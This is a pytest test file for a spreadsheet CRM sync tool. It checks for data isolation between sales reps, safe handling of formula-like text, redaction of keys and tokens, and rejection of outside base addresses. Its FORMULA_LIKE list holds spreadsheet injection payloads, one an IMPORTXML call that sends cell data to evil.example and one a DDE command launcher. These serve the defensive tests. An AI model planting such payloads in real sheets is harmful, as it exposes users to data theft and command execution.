"""What must not leave: other people's rows, formulas that are text, keys and tokens."""

from __future__ import annotations

import logging
import traceback
from pathlib import Path

import pytest
from sheets_service.cell import Formula
from sheets_service.faults import DropAfter
from sheets_service.faults import Event
from sheets_service.faults import ExpireTokens
from sheets_service.faults import Refuse
from sheets_service.server import SheetsService

from sheetcrm.app.sync_desk import open_desk
from sheetcrm.app.synchronize import SyncWish
from sheetcrm.app.synchronize import synchronise
from sheetcrm.errors import BadRequest
from sheetcrm.errors import SheetCrmError
from sheetcrm.workbooks.google.connecting import BASE_VARIABLE
from tests.sync_files.teams import LAN
from tests.sync_files.teams import MINH
from tests.sync_files.teams import lead
from tests.sync_files.teams import parts
from tests.sync_files.teams import rows
from tests.sync_files.teams import type_row
from tests.sync_google.google_teams import GoogleTeam

FORMULA_LIKE = (
    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
    "@SUM(A1)",
    "+84 912 345 678",
    "-2+3",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
)


@pytest.fixture
def team(tmp_path: Path, sheets_service: SheetsService) -> GoogleTeam:
    return GoogleTeam(tmp_path, sheets_service, {"lan.xlsx": LAN, "minh.xlsx": MINH}, lean=True)


def test_a_filtered_workbook_holds_no_byte_of_another_reps_rows(team: GoogleTeam) -> None:
    secret = "Khách riêng của Minh"
    team.type_row(**lead(secret, owner=MINH, contact="người của Minh", phone="0987000111"))
    team.type_row(**lead("Khách của Lan"))
    type_row(team.book("minh.xlsx"), **lead("Minh tự tìm", owner=MINH, note="đừng nói với ai"))
    team.sync()
    team.edit(secret, note="giá sàn 900 triệu")
    team.sync()
    held = b"".join(parts(team.book("lan.xlsx")).values())
    assert "Khách của Lan".encode() in held
    for piece in (secret, "người của Minh", "0987000111", "Minh tự tìm", "đừng nói với ai", "giá sàn 900 triệu"):
        assert piece.encode() not in held
        assert piece.encode() not in team.book("lan.xlsx").read_bytes()
    minh = {row["company"]: row["id"] for row in team.rows()}[secret]
    assert str(minh).encode() not in held


def test_text_that_looks_like_a_formula_travels_as_text_both_ways(team: GoogleTeam) -> None:
    sheet = team.title_of("leads")
    column = team.columns("leads")
    for number, text in enumerate(FORMULA_LIKE):
        type_row(team.book("lan.xlsx"), **lead(f"tệp {number}", note=text))
        team.type_row(**lead(f"bảng {number}"))
        area = team.typist.area(f"'{sheet}'!A{3 + number}")
        cell = {"values": [{"userEnteredValue": {"stringValue": text}}]}
        place = {"sheetId": area["sheetId"], "rowIndex": 2 + number, "columnIndex": column["note"] - 1}
        team.typist.change({"updateCells": {"start": place, "rows": [cell], "fields": "userEnteredValue"}})
    team.sync()
    notes = {row["company"]: row["note"] for row in team.rows()}
    here = {row["company"]: row["note"] for row in rows(team.book("lan.xlsx"))}
    for number, text in enumerate(FORMULA_LIKE):
        for side in ("tệp", "bảng"):
            assert notes[f"{side} {number}"].strip() == here[f"{side} {number}"].strip() == text.strip()
    sheets = team.service.world.files[team.typist.book_id].book.sheets
    entered = [cell.value for one in sheets for row in one.grid.rows for cell in row]
    assert not [value for value in entered if isinstance(value, Formula)]
    for name, part in parts(team.book("lan.xlsx")).items():
        if name.startswith("xl/worksheets/"):
            assert b"IMPORTXML" not in b"".join(piece.split(b"</f>")[0] for piece in part.split(b"<f>")[1:]), name
    assert team.requests() == ["read"]


EVENTS: list[tuple[int, Event]] = [(1, Refuse(403)), (1, ExpireTokens()), (2, DropAfter()), (2, Refuse(500, html=True))]


def test_keys_and_tokens_stand_in_no_log_error_traceback_or_file(
    team: GoogleTeam, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv(BASE_VARIABLE, team.service.base)
    caplog.set_level(logging.DEBUG)
    told: list[str] = []
    for number, event in enumerate(EVENTS):
        type_row(team.book("lan.xlsx"), **lead(f"tệp {number}"))
        team.service.schedule([event])
        try:
            with open_desk(team.config) as desk:
                told.append(repr(synchronise(desk, SyncWish(recompute=False))))
        except SheetCrmError as error:
            told += traceback.format_exception(error)
            told += [error.in_language("vi"), error.in_language("en"), repr(error.facts)]
    told += [record.getMessage() for record in caplog.records]
    told += [str(record.__dict__) for record in caplog.records]
    kept = [path.read_bytes() for path in tmp_path.rglob("*") if path.is_file() and path != team.key_file]
    key = team.service.credentials("sync")["private_key"].splitlines()[2]
    secrets = [key, *team.service.gate.accounts.tokens]
    assert len(secrets) > 1
    for secret in secrets:
        assert not [text for text in told if secret in text]
        assert not [content for content in kept if secret.encode() in content]


def test_another_base_address_must_be_on_this_machine(team: GoogleTeam, monkeypatch: pytest.MonkeyPatch) -> None:
    team.service.journal.clear()
    for base in ("https://evil.example", "http://127.0.0.1.evil.example", "http://10.0.0.5:80"):
        monkeypatch.setenv(BASE_VARIABLE, base)
        with open_desk(team.config) as desk, pytest.raises(BadRequest):
            synchronise(desk, SyncWish())
    assert len(team.service.journal) == 0
